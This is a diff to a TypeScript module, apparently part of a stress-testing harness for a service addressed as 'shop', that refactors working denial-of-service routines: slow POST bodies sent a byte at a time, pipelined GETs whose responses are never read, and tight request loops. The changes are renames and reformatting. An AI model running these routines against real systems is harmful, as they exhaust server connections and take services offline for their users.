@@ -17,14 +17,14 @@ export interface Attack {
   start(target: Target): Promise<() => void>;
 }
 
-/** Attacks that hold connections cost next to no processor time; loops use some of the two cores themselves. */
+/** Attacks that keep connections open use almost no processor time; loops use part of the two cores themselves. */
 const MAX_RATIO_CONNECTIONS = 4;
 const MAX_RATIO_LOOPS = 8;
 const BYTE_EVERY_MS = 4_000;
 const RECONNECT_MS = 50;
 
 /** Keeps `count` connections open, each of which sends `head` and is then given to `onOpen`, which returns its cleanup. */
-function holdConnections(
+function keepConnectionsOpen(
   url: string,
   count: number,
   head: string,
@@ -53,7 +53,7 @@ function holdConnections(
 
 /** Sends bodies a byte at a time. */
 const sendSlowly = (url: string, path: string, count: number) =>
-  holdConnections(
+  keepConnectionsOpen(
     url,
     count,
     `POST ${path} HTTP/1.1\r\nhost: shop\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{`,
@@ -66,10 +66,15 @@ const sendSlowly = (url: string, path: string, count: number) =>
 
 /** Requests a large response many times over on each connection (HTTP pipelining), and reads none of it. */
 const readNothing = (url: string, path: string, { count, ahead }: { count: number; ahead: number }) =>
-  holdConnections(url, count, `GET ${path} HTTP/1.1\r\nhost: shop\r\n\r\n`.repeat(1 + ahead), (socket) => {
-    socket.pause();
-    return () => undefined;
-  });
+  keepConnectionsOpen(
+    url,
+    count,
+    `GET ${path} HTTP/1.1\r\nhost: shop\r\n\r\n`.repeat(1 + ahead),
+    (socket) => {
+      socket.pause();
+      return () => undefined;
+    },
+  );
 
 /** Sends one request after the other on each of `count` connections. */
 function loop(target: string, count: number, nextCall: () => Call): () => void {
@@ -78,7 +83,7 @@ function loop(target: string, count: number, nextCall: () => Call): () => void {
   const run = async () => {
     let connection = new Caller(url);
     while (!isOver) {
-      const { status } = await connection.ask(bytesOf(nextCall(), url.host));
+      const { status } = await connection.send(bytesOf(nextCall(), url.host));
       if (status !== 0) continue;
       /* The server ended the connection. */
       connection.end();
